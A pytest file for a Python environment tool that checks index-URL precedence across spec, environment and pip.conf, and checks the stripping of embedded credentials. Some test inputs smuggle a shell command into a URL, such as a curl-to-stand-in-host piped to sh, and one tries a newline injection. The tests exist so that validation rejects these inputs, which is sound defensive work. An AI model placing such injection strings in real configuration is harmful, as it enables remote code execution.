from pathlib import Path

import pytest

from envsolve.config import index_urls, pip_config, pip_index_url, strip_credentials
from envsolve.domain import DEFAULT_INDEXES
from envsolve.errors import SpecError


def test_lock_indexes_are_the_public_pytorch_index_then_env_then_spec() -> None:
    assert index_urls({}, {}) == (DEFAULT_INDEXES, [])
    assert index_urls({}, {})[0]["pytorch"] == "https://download.pytorch.org/whl"
    env = {"ENVSOLVE_INDEX_PYTORCH": "https://other.invalid/whl/"}
    assert index_urls({}, env)[0]["pytorch"] == "https://other.invalid/whl"
    assert index_urls({"pytorch": "https://spec.invalid/whl"}, env)[0]["pytorch"] == "https://spec.invalid/whl"


def test_pip_configuration_never_reaches_the_lock_indexes(tmp_path: Path) -> None:
    conf = tmp_path / "pip.conf"
    conf.write_text("[global]\nindex-url = https://mirror.invalid/simple\n"
                    "extra-index-url = file:///opt/wheels https://mirror.invalid/torch/whl/\n")
    env = {"PIP_CONFIG_FILE": str(conf), "PIP_INDEX_URL": "https://b.invalid/simple"}
    assert pip_config(env)["index-url"] == "https://b.invalid/simple"
    assert index_urls({}, env) == index_urls({}, {})


def test_pip_index_url_is_what_pip_uses_here(tmp_path: Path) -> None:
    conf = tmp_path / "pip.conf"
    conf.write_text("[global]\nindex-url = https://a.invalid/simple/\n")
    assert pip_index_url({"PIP_CONFIG_FILE": str(conf)}) == "https://a.invalid/simple"
    env = {"PIP_CONFIG_FILE": str(conf), "PIP_INDEX_URL": "https://b.invalid/simple"}
    assert pip_index_url(env) == "https://b.invalid/simple"


def test_a_bad_pip_config_url_names_the_file_key_and_value(tmp_path: Path) -> None:
    conf = tmp_path / "pip.conf"
    conf.write_text("[global]\nindex-url = https://x.invalid/;curl${IFS}evil|sh;#\n")
    with pytest.raises(SpecError) as e:
        pip_index_url({"PIP_CONFIG_FILE": str(conf)})
    assert e.value.exit_code == 2
    assert e.value.message == (f"{conf} [global]: index-url: 'https://x.invalid/;curl${{IFS}}evil|sh;#' "
                               "must be an index URL (http, https or file) without whitespace, quotes or shell "
                               "metacharacters")


@pytest.mark.parametrize("value", ["https://x.invalid/;curl${IFS}evil|sh;#", "https://x.invalid/whl\nRUN evil",
                                   "ftp://x.invalid/whl", "https://x.invalid/ whl"])
def test_a_bad_envsolve_index_value_names_the_variable(value: str) -> None:
    with pytest.raises(SpecError) as e:
        index_urls({}, {"ENVSOLVE_INDEX_PYTORCH": value})
    assert e.value.exit_code == 2
    assert e.value.message.startswith(f"ENVSOLVE_INDEX_PYTORCH: {value!r} must be an index URL")


@pytest.mark.parametrize(("url", "clean"), [
    ("https://bot:S3CRET@mirror.invalid/simple", "https://mirror.invalid/simple"),
    ("https://S3CRET@mirror.invalid:8443/whl?token=S3CRET#x", "https://mirror.invalid:8443/whl"),
    ("https://bot:S3CRET@[::1]:8080/simple", "https://[::1]:8080/simple"),
])
def test_credentials_are_stripped(url: str, clean: str) -> None:
    assert strip_credentials(url) == (clean, True)
    assert strip_credentials(clean) == (clean, False)


def test_index_credentials_are_dropped_with_a_warning() -> None:
    urls, warnings = index_urls({"pypi": "https://bot:S3CRET@mirror.invalid/simple"},
                                {"ENVSOLVE_INDEX_PYTORCH": "https://bot:S3CRET@mirror.invalid/whl"})
    assert urls == {**DEFAULT_INDEXES, "pypi": "https://mirror.invalid/simple", "pytorch": "https://mirror.invalid/whl"}
    assert [w.split(":")[0] for w in warnings] == ["project.toml [indexes] pypi",
                                                   "environment variable ENVSOLVE_INDEX_PYTORCH"]
    assert all("credentials (user, password, query or fragment) were dropped" in w for w in warnings)
    assert "S3CRET" not in "".join(warnings)
